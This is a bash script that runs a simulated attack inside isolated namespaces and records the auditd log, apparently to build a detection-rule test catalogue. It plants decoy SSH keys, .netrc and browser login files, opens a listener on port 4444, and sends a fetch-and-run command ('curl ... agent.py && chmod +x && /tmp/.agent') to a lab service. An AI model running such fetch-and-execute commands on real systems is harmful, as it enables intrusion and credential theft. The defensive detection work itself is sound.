#!/bin/bash
# Records catalogue.log: each built-in rule is met by something in it. Run as root on a Debian 12 machine of your own, with
# the packages auditd, iproute2, zstd, curl, busybox, nodejs, perl, nftables; the result is /opt/lab/out/catalogue.log.
# Everything happens in namespaces for mounts and network, on copies in memory that vanish with them: the machine's files stay.
set -u
LAB=/opt/lab LOG=/opt/lab/log
CLEAN_ENV="env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOME=/root LANG=C.UTF-8 TERM=dumb"

# ---- inside
if [ "${1:-}" = inside ]; then
  mount --make-rprivate /
  mkdir $LAB/etc && mount -t tmpfs none $LAB/etc && cp -a /etc/. $LAB/etc/ && mount --bind $LAB/etc /etc
  for folder in tmp var/tmp dev/shm var/log var/spool home root; do mount -t tmpfs none /$folder; done
  for folder in /usr/lib/python3/dist-packages /usr/local/lib/python3.*/dist-packages; do
    [ -d "$folder" ] && mount --bind $LAB/empty "$folder"
  done
  ip link set lo up
  for ip in 10.20.0.41 10.66.4.9 169.254.169.254; do ip addr add $ip/32 dev lo; done
  mkdir -p /home/kenji/{parts,.ssh,.config/autostart,.mozilla/firefox/x.default} /etc/{cron.d,udev/rules.d,systemd/system,sudoers.d} \
    /var/spool/cron/atjobs $LAB/site
  cp $LAB/catalogue/* /home/kenji/parts/
  cd /home/kenji
  for file in plan.txt .bashrc .ssh/id_ed25519 .netrc .mozilla/firefox/x.default/logins.json .bash_history; do echo plan > $file; done
  echo log > /var/log/auth.log; echo log > /var/log/wtmp
  mkdir $LAB/www; cp $LAB/catalogue/{agent.py,plain.sh} $LAB/www/
  python3 -m http.server --directory $LAB/www 80 >/dev/null 2>&1 &
  python3 -c 'import socket; d = socket.create_server(("10.66.4.9", 4444)); c, _ = d.accept(); c.recv(1)' &
  sleep 1
  # The recorded part: whatever has this login id.
  (echo 4242 > /proc/self/loginuid; exec setsid python3 $LAB/catalogue/site.py) >/dev/null 2>&1 &
  sleep 2
  python3 - <<'VISIT'
import socket
with socket.create_connection(("10.20.0.41", 8080), source_address=("10.66.4.9", 0)) as c:
    c.sendall(b"curl -s -o /tmp/.agent http://10.66.4.9/agent.py && chmod +x /tmp/.agent && /tmp/.agent\n")
VISIT
  sleep 25
  kill $(jobs -p) 2>/dev/null
  exit
fi

# ---- outside
rm -rf $LAB && mkdir -p $LAB/{catalogue,log,out,auditd/plugins.d,empty} && chmod 750 $LOG
cp "$(dirname "$0")"/*.{py,sh} $LAB/catalogue/ && cd $LAB
cat > $LAB/auditd/auditd.conf <<CONF
local_events = yes
write_logs = yes
log_file = $LOG/audit.log
log_format = RAW
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 100
max_log_file_action = KEEP_LOGS
name_format = USER
name = desk-30
space_left = 75
space_left_action = SYSLOG
admin_space_left = 50
admin_space_left_action = SUSPEND
disk_full_action = SUSPEND
disk_error_action = SUSPEND
q_depth = 20000
overflow_action = SYSLOG
plugin_dir = $LAB/auditd/plugins.d
CONF
chmod 640 $LAB/auditd/auditd.conf
trap 'auditctl -D >/dev/null; [ -n "${AUDITD:-}" ] && kill -TERM $AUDITD; auditctl -e 0 >/dev/null; [ -n "${OLD:-}" ] && auditctl -b $OLD >/dev/null' EXIT
auditctl -D >/dev/null; auditctl --reset-lost >/dev/null
$CLEAN_ENV setsid auditd -n -c $LAB/auditd -s nochange </dev/null >/dev/null 2>&1 & AUDITD=$!
sleep 1
OLD=$(auditctl -s | sed -n 's/^backlog_limit //p')
auditctl -b 65536 >/dev/null; auditctl -e 1 >/dev/null
# Three rules with keys as public rule sets have them; the first rule that matches gives the key.
auditctl -a always,exit -F arch=b64 -F auid=4242 -F exe=/usr/bin/bash -S connect -k T1059_004_unix_shell
auditctl -a always,exit -F arch=b64 -F auid=4242 -F exe=/usr/bin/dd -S openat -k susp_T1003.007
auditctl -a always,exit -F arch=b64 -F auid=4242 -F exe=/usr/bin/perl -S connect -k susp_activity
calls=""
for call in execve execveat open openat openat2 creat connect accept accept4 bind unlink unlinkat rename renameat renameat2 \
  chmod fchmod fchmodat clone clone3 fork vfork exit_group; do calls="$calls -S $call"; done
auditctl -a always,exit -F arch=b64 -F auid=4242 $calls
auditctl -l
# No name and no path of the recording machine comes in.
(cd / && exec $CLEAN_ENV unshare -m -n bash $LAB/catalogue/record.sh inside)
auditctl -s | grep lost
auditctl -D >/dev/null; sleep 2
kill -TERM $AUDITD; wait $AUDITD 2>/dev/null; AUDITD=
cp $LOG/audit.log $LAB/out/catalogue.log
ls -l $LAB/out
